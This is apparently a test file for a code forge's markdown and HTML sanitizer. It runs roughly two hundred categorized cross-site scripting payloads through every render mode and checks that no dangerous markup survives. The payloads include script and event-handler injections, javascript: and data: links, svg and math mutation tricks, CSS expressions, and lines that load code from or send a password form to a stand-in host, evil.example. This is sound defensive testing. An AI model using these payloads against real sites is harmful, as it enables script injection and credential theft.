import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { htmlDangers } from "../../../../test/kit/html-dangers.ts";
import type { RenderContext, RenderKind } from "./context.ts";
import { render, renderText } from "./render.ts";
import { sanitize } from "./sanitize.ts";

const contextOf = (kind: RenderKind): RenderContext => ({
  kind,
  origin: "http://forge.example",
  repository: { owner: "alice", name: "demo" },
  ref: "branch/main",
  folder: "",
});
const kinds: readonly RenderKind[] = ["raw", "document", "comment", "wiki"];
const htmlOf = async (text: string, kind: RenderKind): Promise<string> => (await render(text, contextOf(kind))).pieces.join("REFERENCE");

/** Attacks by category. Each is rendered as every kind of text. */
const attacks: Readonly<Record<string, readonly string[]>> = {
  scripts: [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>/*</script><script>*/alert(1)</script>",
    "<<script>alert(1);//<</script>",
    "<script/x>alert(1)</script/x>",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<p>a</p><script>alert(1)</script>\n\n**b**",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "<style><script>alert(1)</script></style>",
    "<title><script>alert(1)</script></title>",
    "<textarea><script>alert(1)</script></textarea>",
    '<noscript><p title="</noscript><script>alert(1)</script>">',
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<iframe><script>alert(1)</script></iframe>",
    "<noembed><script>alert(1)</script></noembed>",
    "<option><script>alert(1)</script></option>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)</script>",
  ],
  handlers: [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\tonerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src='x' onerror\n=\n'alert(1)'>",
    "<img src=x on\u0000error=alert(1)>",
    "<img \u0000onerror=alert(1) src=x>",
    "<img src=x\u000conerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<a href=x onclick=alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<video src=x onerror=alert(1) autoplay>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input type=checkbox onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus><option>x</select>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style=x:expression(alert(1)) onclick=alert(1)>x</div>",
    '![x](y"onerror="alert(1))',
    '![x" onerror="alert(1)](y)',
    "![x](y 'z\" onerror=\"alert(1)')",
    "[x](y 'z\" onclick=\"alert(1)')",
    "<p title='\"onclick=\"alert(1)'>x</p>",
    '| a" onclick="alert(1) |\n|---|\n| b |',
    '```a" onclick="alert(1)\nx\n```',
    "# x {onclick=alert(1)}",
  ],
  addresses: [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#0000058alert(1))",
    "[x](\u0001javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](\u2028javascript:alert(1))",
    "[x](javascript://example.org/%0aalert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.org/x)",
    "[x](filesystem:https://example.org/x)",
    "[x](view-source:javascript:alert(1))",
    "[x](jar:https://example.org!/x)",
    "[x](livescript:alert(1))",
    "[x](mocha:alert(1))",
    "[x](intent://scan/#Intent;end)",
    "[x](ms-settings:privacy)",
    "[x](%6aavascript:alert(1))",
    "[x](JAVASCRIPT&NewLine;:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[[x|javascript:alert(1)]]",
    "[[javascript:alert(1)]]",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="j&#x61;vascript:alert(1)">x</a>',
    "<a href=jav&#x0A;ascript:alert(1)>x</a>",
    "<a href=`javascript:alert(1)`>x</a>",
    "<a href='' href=javascript:alert(1)>x</a>",
    "<a xlink:href=javascript:alert(1)>x</a>",
    "<a href=x ping=javascript:alert(1)>x</a>",
    "<a formaction=javascript:alert(1)>x</a>",
    "<img src=javascript:alert(1)>",
    '<img srcset="javascript:alert(1) 1x, data:text/html,x 2x">',
    "<img src=x longdesc=javascript:alert(1) usemap=#m dynsrc=javascript:alert(1) lowsrc=javascript:alert(1)>",
    "<blockquote cite=javascript:alert(1)>x</blockquote>",
    "<q cite=javascript:alert(1)>x</q>",
    "<video poster=javascript:alert(1) src=x></video>",
    "<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x</table>",
    'http://example.org/"onmouseover="alert(1)',
    'www.example.org"onmouseover="alert(1)',
    'a@example.org"onmouseover="alert(1)',
    '<http://example.org/"onmouseover="alert(1)>',
  ],
  elements: [
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=import href=//evil.example/x.html>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><input name=password><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1)>",
    "<frameset><frame src=javascript:alert(1)></frameset>",
    "<map name=m><area href=javascript:alert(1)></map>",
    "<dialog open>x</dialog>",
    "<portal src=//evil.example></portal>",
    "<html><head><title>x</title></head><body>y</body></html>",
    "<!doctype html><p>x",
    "<?xml version=1.0?><p>x",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!--><script>alert(1)</script>-->",
    "<!--\n<script>alert(1)</script>",
    "<custom-element is=x>x</custom-element>",
    "<slot name=x></slot>",
  ],
  foreign: [
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><foreignObject><script>alert(1)</script></foreignObject></svg>",
    "<svg><use href=data:image/svg+xml,x#y></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><title><![CDATA[</title><img src=x onerror=alert(1)>]]>",
    '<svg><desc><noscript><img title="</noscript><img src=x onerror=alert(1)>">',
  ],
  nesting: [
    "<table><td><a href=x><table><a href=javascript:alert(1)>x",
    "<p><table><script>alert(1)</script></table></p>",
    "<b><p></b><img src=x onerror=alert(1)></p>",
    "<a href=x><a href=javascript:alert(1)>y</a></a>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "</div></div></div><div onclick=alert(1)>x",
    '<img alt="<img src=x onerror=alert(1)>" src=y>',
    "<img alt='\"><script>alert(1)</script>' src=y>",
    '<a title="<b onmouseover=alert(1)>" href=x>y</a>',
    "[<img src=x onerror=alert(1)>](y)",
    "![<img src=x onerror=alert(1)>](y)",
    "# <img src=x onerror=alert(1)>",
    "- [ ] <img src=x onerror=alert(1)>",
    "> [!NOTE]\n> <img src=x onerror=alert(1)>",
    "| <img src=x onerror=alert(1)> |\n|---|",
    "x[^<img src=x onerror=alert(1)>]\n\n[^<img src=x onerror=alert(1)>]: y",
    'x[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: y',
    "$<img src=x onerror=alert(1)>$",
    "$$\n<img src=x onerror=alert(1)>\n$$",
    "term <script>alert(1)</script>\n: definition <script>alert(1)</script>",
    "~~<script>alert(1)</script>~~",
    "[[<script>alert(1)</script>|x]]",
    "@alice<script>alert(1)</script>",
  ],
  names: [
    "<p id=body>x</p>",
    "<a name=cookie id=domain href=x>x</a>",
    "<img name=getElementById src=x>",
    "<a id=user-content-x name=__proto__>x</a>",
    '<p id="fn:x">x</p>',
    '<p id="x:user-content-y">x</p>',
    "<p id=''>x</p>",
    "<p class='modal show-modal link-action' data-url=/x data-fetch=1 hx-get=/x v-html=x>x</p>",
    "<p contenteditable tabindex=0 accesskey=x draggable=true hidden nonce=x part=x>x</p>",
    "# body",
  ],
  styles: [
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<div style='color:red;position:fixed;inset:0'>x</div>",
    "<div style='color:expression(alert(1))'>x</div>",
    "<div style='color:\\65xpression(alert(1))'>x</div>",
    "<div style='color:url(javascript:alert(1))'>x</div>",
    "<div style='color:red;}body{display:none'>x</div>",
    "<div style='color:red/**/;behavior:url(x)'>x</div>",
    '<div style="color:red\\"><script>alert(1)</script>">x</div>',
    "<a style='color:red;background:url(//evil.example/x)' href=x>x</a>",
    "<b style='background:url(//evil.example/x)'>x</b>",
    "<img style='position:fixed;inset:0' src=x>",
  ],
};

describe.each(Object.entries(attacks))("%s", (_way, payloads) => {
  test.each(payloads)("%j", async (payload) => {
    for (const kind of kinds) expect(htmlDangers(await htmlOf(payload, kind)), kind).toEqual([]);
    expect(htmlDangers(sanitize(payload, contextOf("comment")))).toEqual([]);
    for (const text of [
      payload,
      `* ${payload}`,
      `- ${payload}`,
      `| ${payload} |`,
      `[[${payload}][${payload}]]`,
      `#+begin_src ${payload}\n${payload}\n#+end_src`,
    ]) {
      expect(htmlDangers((await renderText("org", text, contextOf("document"))).pieces.join(""))).toEqual([]);
    }
  });
});

test("random combinations of attack fragments stay harmless", async () => {
  const parts = Object.values(attacks)
    .flat()
    .flatMap((payload) => [payload, payload.slice(0, Math.ceil(payload.length / 2)), payload.slice(Math.ceil(payload.length / 2))]);
  const glue = ["", " ", "\n", "\n\n", "> ", "- ", "`", "*", "[", "](", ")", "<", ">", '"', "'", "|", "\u0000", "&", "<!--", "-->", "</p>", "<p>"];
  const text = fc.array(fc.constantFrom(...parts, ...glue), { minLength: 2, maxLength: 8 }).map((chosen) => chosen.join(""));
  await fc.assert(
    fc.asyncProperty(text, fc.constantFrom(...kinds), async (given, kind) => {
      expect(htmlDangers(await htmlOf(given, kind))).toEqual([]);
    }),
    { numRuns: 600 },
  );
}, 60_000);

describe("the check itself", () => {
  test.each([
    ["<script>x</script>", "an element script"],
    ["<img src=x onerror=y>", "an attribute img onerror"],
    ['<a href="java\tscript:x">y</a>', "an address a href java\tscript:x"],
    ["<p id=x>", "a foreign id x"],
    ["<p style='background:url(x)'>", "a style background:url(x)"],
    ["<!--x-->", "a node #comment"],
    ["<input type=checkbox>", "an input that can be changed"],
  ])("%s: %s", (html, danger) => {
    expect(htmlDangers(html)).toContain(danger);
  });
});

describe("allowed content is kept", () => {
  test.each([
    ["<kbd>a</kbd><sub>b</sub><details open><summary>c</summary>d</details>", "<kbd>a</kbd><sub>b</sub><details open><summary>c</summary>d</details>"],
    ['<p align="center">x</p>', '<p align="center">x</p>'],
    ['<p style="color: #f00; background-color: rgb(1, 2, 3)">x</p>', '<p style="color:#f00;background-color:rgb(1, 2, 3)">x</p>'],
    ["<table><tr><td colspan=2>x</td></tr></table>", '<table><tr><td colspan="2">x</td></tr></table>'],
    ['<ol start="3"><li value="4">x</li></ol>', '<ol start="3"><li value="4">x</li></ol>'],
    ['<a href="mailto:a@b.example">x</a>', '<a href="mailto:a@b.example" rel="nofollow">x</a>'],
    ['<a id="x">y</a>', '<a id="user-content-x">y</a>'],
    ["a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"],
    ["<div><b>unclosed", "<div><b>unclosed</b></div>"],
  ])("%s", (html, expected) => {
    expect(sanitize(html, contextOf("comment"))).toBe(expected);
  });

  test("images for dark and light pages", () => {
    const html = '<picture><source media="(prefers-color-scheme: dark)" srcset="dark.png 1x, https://cdn.example/d.png 2x"><img src="light.png"></picture>';
    expect(sanitize(html, contextOf("document"))).toBe(
      '<picture><source media="(prefers-color-scheme: dark)" srcset="http://forge.example/alice/demo/media/branch/main/dark.png 1x, https://cdn.example/d.png 2x" /><img src="http://forge.example/alice/demo/media/branch/main/light.png" loading="lazy" /></picture>',
    );
  });

  test("deeply nested elements lose their tags and keep their text", () => {
    const html = sanitize(`${"<b>".repeat(5_000)}deep${"</b>".repeat(5_000)}`, contextOf("comment"));
    expect(html.match(/<b>/g)).toHaveLength(100);
    expect(html).toContain("deep");
  });
});
